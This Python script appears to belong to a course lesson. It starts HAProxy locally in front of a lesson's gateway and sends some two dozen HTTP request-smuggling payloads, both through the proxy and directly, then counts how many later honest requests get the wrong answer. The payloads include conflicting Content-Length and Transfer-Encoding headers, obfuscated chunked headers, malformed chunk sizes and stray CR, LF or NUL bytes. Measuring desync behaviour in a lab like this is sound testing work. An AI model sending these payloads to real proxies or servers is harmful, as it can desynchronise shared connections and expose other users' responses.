"""Request smuggling: requests whose end two programs may see in different places, sent to lesson 14's gateway, once
through HAProxy and once directly. `python3 scripts/figures attack` runs it.

HAProxy keeps connections to the gateway and shares them between its clients. If it saw the end of a request elsewhere
than the gateway, the rest would stand before the next client's request, and that client would get another answer.
"""

import re
import shutil
import socket
import subprocess
import time

WRONG_AFTER = 20
BODY = b'{"name":"attack"}'
HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"

HAPROXY = """
global
    maxconn 200
defaults
    mode http
    timeout connect 2s
    timeout client 5s
    timeout server 5s
    http-reuse always
frontend front
    bind {front}
    default_backend gateway
backend gateway
    server one {back}
"""


def post(*headers, body=b"", version=b"HTTP/1.1", host=b"{host}"):
    lines = [b"POST /user/say/hello " + version, b"Host: " + host, b"Content-Type: application/json", *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def length(body):
    return b"Content-Length: %d" % len(body)


def chunks(body, rest=b""):
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) + rest


CHUNKED = b"Transfer-Encoding: chunked"
# Each hides a second request behind what one of two readers takes for the end of the first one.
CASES = {
    "length and chunks": post(length(chunks(BODY, HIDDEN)), CHUNKED, body=chunks(BODY, HIDDEN)),
    "chunks, then a length": post(CHUNKED, length(b"0"), body=chunks(BODY, HIDDEN)),
    "two lengths": post(length(BODY), length(BODY + HIDDEN), body=BODY + HIDDEN),
    "two lengths in one header": post(b"Content-Length: %d, %d" % (len(BODY), len(BODY + HIDDEN)),
                                      body=BODY + HIDDEN),
    "length with a plus": post(b"Content-Length: +%d" % len(BODY), body=BODY + HIDDEN),
    "length with a space inside": post(b"Content-Length: 1 7", body=BODY + HIDDEN),
    "negative length": post(b"Content-Length: -1", body=BODY + HIDDEN),
    "chunked, space before the colon": post(length(BODY + HIDDEN), b"Transfer-Encoding : chunked",
                                            body=chunks(BODY, HIDDEN)),
    "chunked after a tab": post(length(chunks(BODY, HIDDEN)), b"Transfer-Encoding:\tchunked",
                                body=chunks(BODY, HIDDEN)),
    "xchunked": post(length(BODY + HIDDEN), b"Transfer-Encoding: xchunked", body=BODY + HIDDEN),
    "identity and chunked": post(b"Transfer-Encoding: identity", CHUNKED, body=chunks(BODY, HIDDEN)),
    "chunked twice": post(b"Transfer-Encoding: chunked, chunked", body=chunks(BODY, HIDDEN)),
    "chunked, folded line": post(length(BODY + HIDDEN), b"Transfer-Encoding:\r\n chunked", body=chunks(BODY, HIDDEN)),
    "chunked in HTTP/1.0": post(CHUNKED, body=chunks(BODY, HIDDEN), version=b"HTTP/1.0"),
    "chunk size of 20 digits": post(CHUNKED, body=b"00000000000000000011\r\n" + BODY + b"\r\n0\r\n\r\n" + HIDDEN),
    "chunk size too large": post(CHUNKED, body=b"10000000000000011\r\n" + BODY + b"\r\n0\r\n\r\n" + HIDDEN),
    "chunk size with 0x": post(CHUNKED, body=b"0x11\r\n" + BODY + b"\r\n0\r\n\r\n" + HIDDEN),
    "chunk ended by LF alone": post(CHUNKED, body=b"11\n" + BODY + b"\n0\n\n" + HIDDEN),
    "LF alone after a header": post(b"X-A: b\nContent-Length: 0", length(BODY + HIDDEN), body=BODY + HIDDEN),
    "CR alone in a header": post(b"X-A: b\rContent-Length: 0", length(BODY + HIDDEN), body=BODY + HIDDEN),
    "NUL in a header": post(b"X-A: b\0c", length(BODY), body=BODY + HIDDEN),
    "body of a GET": b"GET /healthz HTTP/1.1\r\nHost: {host}\r\n" + length(HIDDEN) + b"\r\n\r\n" + HIDDEN,
    "two hosts": post(b"Host: other", length(BODY), body=BODY),
    "host of the URL is another": b"GET http://other/healthz HTTP/1.1\r\nHost: {host}\r\n\r\n",
}


def answers(address, request):
    """The status lines that came back within a second."""
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=2) as one:
        one.settimeout(1)
        data = b""
        try:
            one.sendall(request.replace(b"{host}", address.encode()))
            while part := one.recv(65536):
                data += part
        except OSError:
            pass
    return [int(code) for code in re.findall(rb"HTTP/1\.[01] (\d\d\d) ", data)]


def honest(address, number):
    """Whether a call gets its own answer."""
    body = b'{"name":"honest-%d"}' % number
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=2) as one:
            one.settimeout(3)
            one.sendall(post(length(body), b"Connection: close", body=body).replace(b"{host}", address.encode()))
            data = b""
            while part := one.recv(65536):
                data += part
    except OSError:
        return False
    return data.startswith(b"HTTP/1.1 200") and b"honest-%d" % number in data


def smuggling(gateway, work):
    """One row for each case: what HAProxy's client saw, what a direct client saw, and how many of the honest calls
    after it went wrong."""
    if shutil.which("haproxy") is None:
        raise SystemExit("HAProxy is missing here: sudo apt-get update && sudo apt-get install -y haproxy")
    with socket.create_server(("127.0.0.1", 0)) as free:
        front = f"127.0.0.1:{free.getsockname()[1]}"
    settings = work / "haproxy.cfg"
    settings.write_text(HAPROXY.format(front=front, back=gateway))
    version = subprocess.run(["haproxy", "-v"], capture_output=True, text=True, check=True).stdout.split()[2]
    proxy = subprocess.Popen(["haproxy", "-q", "-db", "-f", settings])
    try:
        for _ in range(100):
            if honest(front, 0):
                break
            time.sleep(0.1)
        else:
            raise SystemExit("no call comes through HAProxy")
        print(f"Request smuggling: HAProxy {version} before the gateway of lesson 14; status of each answer")
        print(f"{'case':<34}{'through HAProxy':<18}{'to the gateway':<18}wrong answers of {WRONG_AFTER} honest calls")
        for name, request in CASES.items():
            through = " ".join(map(str, answers(front, request))) or "closed"
            direct = " ".join(map(str, answers(gateway, request))) or "closed"
            wrong = sum(not honest(front, number) for number in range(WRONG_AFTER))
            print(f"{name:<34}{through:<18}{direct:<18}{wrong}", flush=True)
    finally:
        proxy.kill()
        proxy.wait()
    print()
